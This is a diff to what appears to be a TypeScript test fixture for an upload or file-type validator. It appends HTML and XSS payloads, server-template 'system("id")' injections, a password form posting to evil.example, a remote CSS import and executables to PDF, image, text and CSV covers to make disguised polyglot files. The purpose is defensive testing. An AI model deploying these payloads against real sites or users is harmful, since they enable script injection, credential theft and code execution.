@@ -122,3 +122,36 @@ export const HOSTILE_FILES: HostileFile[] = [
   },
   { name: "a program that is a PDF further on", bytes: Buffer.concat([exe().subarray(0, 600), PDF]) },
 ];
+
+/** What a reader that guesses would run, or open. */
+const PAYLOADS: Record<string, Buffer> = {
+  "a page": text(`<html><body>${SCRIPT}</body></html>`),
+  "a drawing with a script": text(SVG),
+  "a frame": text(`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`),
+  "a handler": text(`<img src=x onerror=alert(1)>`),
+  "a form that is sent elsewhere": text(`<form action="//evil.example"><input name=password autofocus></form>`),
+  "a page that moves on": text(`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`),
+  "an object": text(`<object data="data:text/html;base64,PHNjcmlwdD4="></object>`),
+  "a style": text(`<style>@import "//evil.example/x.css";</style>`),
+  "a template of a server": text(`<%= system("id") %><?php system("id"); ?>`),
+  "an archive with a program": zip("a.exe", exe()),
+  "a program": exe(),
+};
+
+const COVERS: Record<string, { cover: Buffer; mimeType: string }> = {
+  PDF: { cover: PDF, mimeType: "application/pdf" },
+  PNG: { cover: PNG, mimeType: "image/png" },
+  JPEG: { cover: JPEG, mimeType: "image/jpeg" },
+  GIF: { cover: GIF, mimeType: "image/gif" },
+  text: { cover: text("Dear all,\n"), mimeType: "text/plain" },
+  table: { cover: text("name;note\r\nAda;"), mimeType: "text/csv" },
+};
+
+/** Every payload behind every cover. */
+export const DISGUISED_FILES = Object.entries(COVERS).flatMap(([as, { cover, mimeType }]) =>
+  Object.entries(PAYLOADS).map(([what, payload]) => ({
+    name: `${what} behind a ${as}`,
+    mimeType,
+    bytes: Buffer.concat([cover, payload]),
+  })),
+);
